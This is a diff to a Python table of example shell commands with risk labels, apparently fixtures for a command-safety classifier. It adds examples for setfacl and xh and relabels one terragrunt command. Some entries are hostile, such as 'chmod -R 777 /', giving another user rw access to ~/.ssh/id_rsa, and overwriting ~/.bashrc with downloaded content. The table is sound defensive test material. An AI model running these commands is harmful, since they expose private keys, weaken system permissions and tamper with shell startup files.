@@ -439,7 +439,11 @@ _FILES: dict[str, Examples] = {
     "chmod": (("chmod +x scripts/run.sh", W), ("chmod -R 777 /", C)),
     "chown": (("chown -R dev:dev build", H), ("chown -R eve /etc", C)),
     "chgrp": (("chgrp dev build/app", H),),
-    "setfacl": (("setfacl -m u:eve:r src/a.py", W), ("setfacl -m u:eve:rw ~/.ssh/id_rsa", C)),
+    "setfacl": (
+        ("setfacl -m u::rw src/a.py", W),
+        ("setfacl -m u:eve:r src/a.py", H),  # another user may now read the project
+        ("setfacl -m u:eve:rw ~/.ssh/id_rsa", C),
+    ),
     "chattr": (
         ("chattr +i build/app", W),
         ("chattr +i ~/.bashrc", C),
@@ -539,7 +543,12 @@ _NETWORK: dict[str, Examples] = {
     "curlie": (("curlie https://example.com", N),),
     "http": (("http GET https://example.com", N),),
     "https": (("https example.com", N),),
-    "xh": (("xh https://example.com", N),),
+    "xh": (
+        ("xh https://example.com", N),
+        ("xh --offline post https://example.com a=1", R),
+        ("xh --curl get https://example.com", R),
+        ("xh --offline get https://example.com -o /home/dev/.bashrc", C),
+    ),
     "wget": (
         ("wget -q https://example.com/a.tgz", N),
         ("wget -O ~/.bashrc https://x.example/a", C),
@@ -792,7 +801,7 @@ _SERVICES: dict[str, Examples] = {
         ("terraform destroy -auto-approve", H),
     ),
     "tofu": (("tofu validate", R), ("tofu apply -auto-approve", H)),
-    "terragrunt": (("terragrunt plan", R), ("terragrunt destroy", H)),
+    "terragrunt": (("terragrunt plan", N), ("terragrunt destroy", H)),
     "pulumi": (
         # preview runs the project's Pulumi program but deploys nothing
         ("pulumi preview", W),
